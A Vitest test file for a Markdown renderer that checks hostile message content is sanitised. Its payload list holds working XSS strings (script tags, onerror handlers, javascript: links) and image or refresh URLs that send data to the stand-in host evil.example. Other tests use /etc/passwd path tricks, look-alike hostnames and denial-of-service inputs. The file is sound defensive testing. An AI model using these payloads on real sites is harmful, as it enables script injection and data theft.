// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { mount } from '../mount-for-test.tsx';
import { Markdown, preloadMarkdown } from './markdown.tsx';

await preloadMarkdown();

async function show(text: string) {
  const links: string[] = [];
  const paths: string[] = [];
  const page = await mount(
    <Markdown
      text={text}
      onLink={(href) => links.push(href)}
      onPath={(path) => paths.push(path)}
    />,
  );
  return { ...page, links, paths };
}

const allowed = new Set(
  [
    ...'DIV P SPAN STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE HR BR H3 H4 H5 H6 TABLE THEAD TBODY'.split(
      ' ',
    ),
    ...'TR TH TD SUP FIGURE FIGCAPTION BUTTON INPUT svg path line circle rect polyline g'.split(
      ' ',
    ),
  ].map((name) => name.toUpperCase()),
);

const payloads = [
  '<form action="https://evil.example"><button>Approve</button></form>',
  '<style>*{display:none}</style>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<b>x</b>"></iframe>',
  '<img src=https://evil.example/?q=S onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a id="root" href="javascript:alert(1)">x</a>',
  '<input type=text autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=preload href=https://evil.example as=image>',
  '![x](https://evil.example/?q=S)',
  '![x](data:image/png;base64,AAAA)',
  '![x](file:///etc/passwd)',
  '![x][i]\n\n[i]: https://evil.example/i.png',
  '[![x](https://evil.example/i.png)](https://evil.example)',
  '[x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x](//evil.example)',
  '> <details open ontoggle=alert(1)>\n\n<b>x</b>',
  '| <b>a</b> |\n|---|\n| ![x](https://evil.example) |',
  'a[^1]\n\n[^1]: <iframe src=https://evil.example>',
  '- [ ] <button>Approve</button>',
];

describe('what a message can become', () => {
  it.each(payloads)('holds for %s', async (payload) => {
    const { container } = await show(payload);
    const nodes = [...container.querySelectorAll('*')];
    expect(nodes.map((n) => n.tagName.toUpperCase()).filter((name) => !allowed.has(name))).toEqual(
      [],
    );
    const attributes = nodes.flatMap((n) => [...n.attributes].map((a) => a.name));
    expect(
      attributes.filter((name) => /^on|^(?:href|src|srcset|action|style|formaction)$/.test(name)),
    ).toEqual([]);
    expect([...container.querySelectorAll('input')].filter((i) => !i.disabled)).toEqual([]);
    expect([...container.querySelectorAll('button')].map((b) => b.textContent).join('')).toBe('');
    expect(document.querySelectorAll('head link[rel=preload]').length).toBe(0);
  });

  it('shows markup as the text it is', async () => {
    const { container } = await show('a <form>b</form>');
    expect(container.textContent).toBe('a <form>b</form>');
  });
});

describe('links', () => {
  it('call back with the address shown on hover, by click and by Enter', async () => {
    const page = await show('see [docs](https://example.com/a)');
    expect(page.links).toEqual([]);
    const link = page.container.querySelector<HTMLElement>('[role=link]')!;
    await page.act(() => link.click());
    await page.act(() => {
      link.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    });
    expect(page.links).toEqual(['https://example.com/a', 'https://example.com/a']);
    expect(link.title).toBe('https://example.com/a');
  });

  it('show the real host beside text that says otherwise', async () => {
    const { container } = await show('[https://github.com](https://evil.example/x)');
    expect(container.textContent).toBe('https://github.com (evil.example)');
  });

  it('show a host of look-alike letters in its ASCII form', async () => {
    const { container } = await show('[g](https://g\u0456thub.com)');
    expect(container.textContent).toBe('g (xn--gthub-n2e.com)');
  });

  it('do not repeat an address that is its own text', async () => {
    const { container } = await show('<https://example.com/x>');
    expect(container.textContent).toBe('https://example.com/x');
  });

  it('become paths when relative', async () => {
    const { container, paths, act } = await show('[loader.ts](src/loader.ts:42)');
    await act(() => container.querySelector<HTMLElement>('[role=link]')!.click());
    expect(paths).toEqual(['src/loader.ts:42']);
    expect(container.textContent).toBe('loader.ts');
  });

  it('show the path when their text names another', async () => {
    const { container } = await show('[safe.ts](../../etc/passwd)');
    expect(container.textContent).toBe('safe.ts ../../etc/passwd');
  });

  it('are plain text with their target when of another kind', async () => {
    const { container } = await show('[run](javascript:alert(1))');
    expect(container.textContent).toBe('run (javascript:alert(1))');
    expect(container.querySelector('[role=link]')).toBeNull();
  });
});

describe('limits', () => {
  const row = `|${'a|'.repeat(60)}\n`;
  it.each<[what: string, text: string]>([
    ['a table of 2,000 × 60', `${row}|${'-|'.repeat(60)}\n${row.repeat(2_000)}`],
    ['quotes 5,000 deep', `${'>'.repeat(5_000)} x`],
    ['lists 400 deep', Array.from({ length: 400 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n')],
    [
      'lists 1,500 deep',
      Array.from({ length: 1_500 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n'),
    ],
    ['lists 5,000 deep on one line', `${'- '.repeat(5_000)}a`],
    ['a code block of 1 MB', `\`\`\`js\n${'const a = "b";\n'.repeat(70_000)}\`\`\``],
    ['50,000 brackets', '['.repeat(50_000)],
    ['100,000 stars and words', '*a **b '.repeat(15_000)],
    [
      '700 growing runs of backticks',
      Array.from({ length: 700 }, (_, i) => '`'.repeat(i)).join(' '),
    ],
    ['one word of 250,000 letters', 'a'.repeat(250_000)],
    ['50,000 headings', '# a\n'.repeat(50_000)],
    ['20,000 link definitions', Array.from({ length: 20_000 }, (_, i) => `[${i}]: b`).join('\n')],
  ])('keep %s readable', async (_what, text) => {
    const { container } = await show(text);
    const words = text.slice(0, 40).match(/[a-z0-9]+/)?.[0] ?? '';
    expect(container.textContent).toContain(words);
  });

  it('put many plain lines in pieces that are the text to the letter', async () => {
    const text = `${'# a\n'.repeat(999)}# a`;
    const { container } = await show(text);
    const pieces = [...container.querySelectorAll('[style]')].map((one) => one.textContent.length);
    expect({ text: container.textContent, pieces }).toEqual({ text, pieces: [1_600, 1_600, 799] });
  });

  it('cut a message at 256 KB and show the rest as plain text when asked', async () => {
    const { container, act } = await show(`${'a'.repeat(1023)}\n`.repeat(300) + 'the end');
    expect(container.textContent).not.toContain('the end');
    const more = [...container.querySelectorAll('button')].at(-1)!;
    expect(more.textContent).toBe('Show the other 45 KB as plain text');
    await act(() => more.click());
    expect(container.textContent).toContain('the end');
  });
});

describe('a growing message', () => {
  it('keeps the elements of its settled blocks', async () => {
    const first = `${'word '.repeat(200)}\n\n`;
    const props = { onLink: () => {} };
    const { container, render } = await mount(<Markdown text={`${first}b`} {...props} />);
    const before = container.querySelector('p');
    await render(<Markdown text={`${first}b c\n\n\`\`\`ts\nlet a`} {...props} />);
    expect(container.querySelector('p')).toBe(before);
    expect(container.querySelector('pre')?.textContent).toBe('let a');
  });
});

describe('code', () => {
  it('warns of hidden characters and shows them', async () => {
    const { container } = await show('```sh\necho "a\u202eb"\n```');
    expect(container.querySelector('figcaption')?.textContent).toContain('hidden characters');
    expect(container.querySelector('pre')?.textContent).toBe('echo "aU+202Eb"');
  });

  it('says nothing of ordinary code and colours it', async () => {
    const { container } = await show('```ts\nconst a = "b";\n\treturn a;\n```');
    expect(container.querySelector('figcaption')?.textContent).not.toContain('hidden');
    expect(container.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(container.querySelector('pre')?.textContent).toBe('const a = "b";\n\treturn a;');
  });
});
